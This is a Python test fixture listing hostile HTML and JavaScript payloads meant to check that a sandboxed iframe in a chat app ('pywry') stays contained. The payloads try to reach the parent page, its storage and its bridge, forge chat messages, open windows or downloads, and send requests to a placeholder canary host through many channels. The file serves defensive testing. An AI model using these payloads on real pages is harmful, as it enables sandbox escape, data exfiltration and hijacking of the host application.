"""Hostile HTML, as a model might be made to write it.

``{canary}`` is an address that nothing may reach. What gets at something it must not get at says ``WON``, what has tried
everything says ``DONE``.
"""

from __future__ import annotations


def _script(code: str) -> str:
    """Code that says when it is done, and whether it got what it wanted: what it returns is true then."""
    return f"""<script>(async () => {{
      try {{ if (await (async () => {{ {code} }})()) console.log('WON'); }} catch {{}}
      console.log('DONE');
    }})()</script>"""


def _loaded(html: str) -> str:
    """Markup that is done when everything in it has loaded or failed."""
    return f"{html}<script>addEventListener('load', () => console.log('DONE'))</script>"


REACHING: dict[str, str] = {
    "the parent's variables": _script("parent.won = 1; return parent.won"),
    "the parent's document": _script("return parent.document.body"),
    "the top's document": _script("top.document.title = 'WON'; return true"),
    "the top's storage": _script("return top.localStorage"),
    "the frame's own element": _script("return window.frameElement"),
    "a function of the parent's": _script("parent.eval('won = 1'); return true"),
    "the page's bridge": _script("return parent.pywry.emit('chat:user-message', {text: 'WON'})"),
    "another frame": _script("return parent.frames[0].document || parent.frames[1].document"),
    "cookies": _script("document.cookie = 'a=b'; return true"),
    "local storage": _script("localStorage.setItem('a', 'b'); return true"),
    "session storage": _script("sessionStorage.setItem('a', 'b'); return true"),
    "a database": _script(
        "const open = indexedDB.open('a'); return new Promise((yes, no) => {"
        " open.onsuccess = () => yes(true); open.onerror = no; })"
    ),
    "caches": _script("await caches.open('a'); return true"),
    "private files": _script("return navigator.storage.getDirectory()"),
    "a service worker": _script(
        "await navigator.serviceWorker.register('/assets/x.js'); return true"
    ),
    "a worker": _script(
        "const url = URL.createObjectURL(new Blob(['postMessage(1)']));"
        "return new Promise((yes, no) => { const w = new Worker(url); w.onmessage = yes; w.onerror = no; })"
    ),
    "the clipboard": _script("await navigator.clipboard.readText(); return true"),
    "a camera": _script("return navigator.mediaDevices.getUserMedia({video: true})"),
    "code from text": _script("return eval('1 + 1')"),
    "a base for addresses": _script(
        "const b = document.createElement('base'); b.href = 'http://{canary}/'; document.head.append(b);"
        "return document.baseURI.includes('{canary}')"
    ),
    "a port of its own": _script(
        "const {port1, port2} = new MessageChannel(); parent.postMessage('pywry:frame', '*', [port2]);"
        "const won = new Promise((yes) => { port1.onmessage = yes });"
        "return Promise.race([won, new Promise((no) => setTimeout(no, 300))])"
    ),
    "the frame's port": _script(
        "let got; const say = MessagePort.prototype.postMessage;"
        "MessagePort.prototype.postMessage = function (...all) { got = this; return say.apply(this, all) };"
        "document.body.style.height = '500px';"
        "await new Promise((later) => setTimeout(later, 300)); return got"
    ),
    "the chat's events": _script(
        "for (const type of ['chat:user-message', 'chat:stop', 'chat:input-response', 'pywry:refresh'])"
        " parent.postMessage({type, chat: 'chat', data: {text: 'WON', threadId: 'thread_1'}}, '*')"
    ),
}
"""Inside of the browser: nothing of it works, and the frame stays what it is."""

WINDOWS: dict[str, str] = {
    "a window": _script("return window.open('http://{canary}/open')"),
    "a link in a new tab": _script(
        "const a = document.createElement('a'); a.href = 'http://{canary}/tab'; a.target = '_blank';"
        "document.body.append(a); a.click()"
    ),
    "the top, by script": _script("top.location = 'http://{canary}/top'"),
    "the top, by link": _script(
        "const a = document.createElement('a'); a.href = 'http://{canary}/top'; a.target = '_top';"
        "document.body.append(a); a.click()"
    ),
    "the top, by code in an address": _script("top.location = 'javascript:document.title=`WON`'"),
    "the parent's history": _script("history.go(-1); parent.history.back(); return true"),
    "a form": _script(
        "const f = document.createElement('form'); f.action = 'http://{canary}/form'; f.method = 'post';"
        "document.body.append(f); f.submit(); f.requestSubmit()"
    ),
    "dialogs": _script("alert('WON'); return confirm('WON') || prompt('WON', 'WON') || print()"),
    "a download": _script(
        "const a = document.createElement('a'); a.href = 'data:text/plain,WON'; a.download = 'won.exe';"
        "document.body.append(a); a.click()"
    ),
    "the whole screen": _script("await document.documentElement.requestFullscreen(); return true"),
}
"""Out of its box: no window, no dialog, no download, and the page stays where it is."""

NETWORK: dict[str, str] = {
    "fetch": _script("await fetch('http://{canary}/fetch', {mode: 'no-cors'}); return true"),
    "XMLHttpRequest": _script(
        "return new Promise((yes, no) => { const x = new XMLHttpRequest(); x.onload = yes; x.onerror = no;"
        " x.open('GET', 'http://{canary}/xhr'); x.send() })"
    ),
    "a WebSocket": _script(
        "return new Promise((yes, no) => { const s = new WebSocket('ws://{canary}/ws'); s.onopen = yes; s.onerror = no; s.onclose = no })"
    ),
    "server-sent events": _script(
        "return new Promise((yes, no) => { const e = new EventSource('http://{canary}/sse'); e.onopen = yes; e.onerror = no })"
    ),
    "a beacon": _script("navigator.sendBeacon('http://{canary}/beacon', 'x')"),
    "an image": _loaded("<img src='http://{canary}/img' srcset='http://{canary}/img2 2x'>"),
    "a picture in style": _loaded(
        "<style>@import 'http://{canary}/import'; body { background: url(http://{canary}/css) }"
        "@font-face { font-family: x; src: url(http://{canary}/font) } p { font-family: x }</style><p>x"
    ),
    "a style sheet and other links": _loaded(
        "<link rel=stylesheet href='http://{canary}/sheet'><link rel=prefetch href='http://{canary}/prefetch'>"
        "<link rel=preload as=image href='http://{canary}/preload'><link rel=icon href='http://{canary}/icon'>"
        "<link rel=modulepreload href='http://{canary}/module'><link rel=manifest href='http://{canary}/manifest'>"
    ),
    "connections ahead": _loaded(
        "<link rel=preconnect href='http://{canary}/'><link rel=dns-prefetch href='http://{canary}/'>"
        "<script>const l = document.createElement('link'); l.rel = 'preconnect'; l.href = 'http://{canary}/'; document.head.append(l)</script>"
    ),
    "pages ahead": _loaded(
        '<script type=speculationrules>{"prefetch": [{"source": "list", "urls": ["http://{canary}/rules"]}]}</script>'
    ),
    "scripts": _loaded(
        "<script src='http://{canary}/script'></script>"
        "<script type=module>import('http://{canary}/import').catch(() => 0)</script>"
    ),
    "media and plug-ins": _loaded(
        "<video src='http://{canary}/video' poster='http://{canary}/poster'></video><audio src='http://{canary}/audio'></audio>"
        "<object data='http://{canary}/object'></object><embed src='http://{canary}/embed'>"
        "<svg><image href='http://{canary}/svg'/><use href='http://{canary}/use#x'/></svg>"
    ),
    "a frame within": _loaded("<iframe src='http://{canary}/frame'></iframe>"),
    "a document within": _loaded(
        "<iframe srcdoc=\"<img src='http://{canary}/inner'><script>fetch('http://{canary}/inner')</script>\"></iframe>"
    ),
    "a peer": _script(
        "const p = new RTCPeerConnection({iceServers: [{urls: 'turn:{canary}?transport=tcp', username: 'a', credential: 'b'}]});"
        "p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer());"
        "await new Promise((done) => { p.onicegatheringstatechange = () => p.iceGatheringState === 'complete' && done() })"
    ),
    "a peer of a document within": (
        "<iframe srcdoc=\"<script>const p = new RTCPeerConnection({iceServers: [{urls: 'turn:{canary}?transport=tcp', username: 'a',"
        " credential: 'b'}]}); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o));"
        "console.log('DONE')</script>\"></iframe>"
    ),
    "a report": _loaded(
        "<meta http-equiv=content-security-policy content=\"img-src 'none'; report-uri http://{canary}/report\"><img src=data:,x>"
    ),
    "a ping of a link": _script(
        "const a = document.createElement('a'); a.href = '#'; a.ping = 'http://{canary}/ping';"
        "document.body.append(a); a.click()"
    ),
}
"""To another server: nothing arrives."""

LEAVING: dict[str, str] = {
    "by script": "<script>location = 'http://{canary}/leave'</script>",
    "by refreshing": "<meta http-equiv=refresh content='0; url=http://{canary}/refresh'>",
    "to another document": (
        "<script>location = 'data:text/html,<script>fetch(`http://{canary}/data`);"
        "new Image().src = `http://{canary}/image`</'+'script>'</script>"
    ),
    "to a document of its own": (
        "<script>location = URL.createObjectURL(new Blob(['<script>fetch(`http://{canary}/blob`);"
        "new Image().src = `http://{canary}/image`;parent.postMessage(1, `*`)</'+'script>'], {type: 'text/html'}))</script>"
    ),
    "to the app": "<script>location = '/widget/main'</script>",
    "to itself": "<script>addEventListener('load', () => location.reload())</script>",
}
"""Away from its document: nothing arrives, and the frame is removed."""


def filled(html: str, canary: str) -> str:
    """Return the artifact with the address."""
    return "<p>x</p>" + html.replace("{canary}", canary)
